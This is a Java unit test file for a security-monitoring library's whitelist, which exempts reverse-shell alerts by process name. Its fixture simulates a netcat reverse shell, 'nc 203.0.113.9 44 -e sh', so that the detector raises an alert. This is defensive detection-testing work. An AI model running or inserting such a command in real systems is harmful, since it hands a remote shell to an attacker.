package io.hivesec.examples.flink;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.hivesec.Hive;
import io.hivesec.alert.Alert;
import io.hivesec.testkit.Scene;
import io.hivesec.whitelist.WhitelistException;
import org.junit.jupiter.api.Test;

final class BroadcastWhitelistTest {
    private static final String TRUSTS_NC = rules("{\"processes\":\"nc\"}");

    private final BroadcastWhitelist whitelist = new BroadcastWhitelist();

    @Test
    void exempts_beforeAnythingWasBroadcast_trustsNothing() {
        assertThat(whitelist.exempts(shell())).isEmpty();
    }

    @Test
    void use_newVersion_takesTheOldOnesPlace() throws Exception {
        whitelist.use(TRUSTS_NC);
        assertThat(whitelist.exempts(shell())).isPresent();
        whitelist.use(rules("{\"processes\":\"socat\"}"));
        assertThat(whitelist.exempts(shell())).isEmpty();
    }

    @Test
    void use_badVersion_keepsTheOneInForce() throws Exception {
        whitelist.use(TRUSTS_NC);
        assertThatThrownBy(() -> whitelist.use(rules("{}"))).isInstanceOf(WhitelistException.class);
        assertThat(whitelist.exempts(shell())).isPresent();
    }

    private static String rules(String conditions) {
        return "{\"version\":1,\"rules\":[{\"id\":\"r\",\"type\":\"reverse_shell\",\"creator\":\"ann\","
                + "\"created\":\"2026-01-01T00:00:00Z\",\"conditions\":" + conditions + "}]}";
    }

    private static Alert shell() {
        Scene scene = Scene.in("web");
        scene.starts("/usr/bin/nc", "nc", "203.0.113.9", "44", "-e", "sh");
        try (Hive hive = Hive.builder()
                .plugins(BroadcastWhitelistTest.class.getClassLoader())
                .build()) {
            return hive.inspect(scene.last()).alerts().get(0);
        }
    }
}
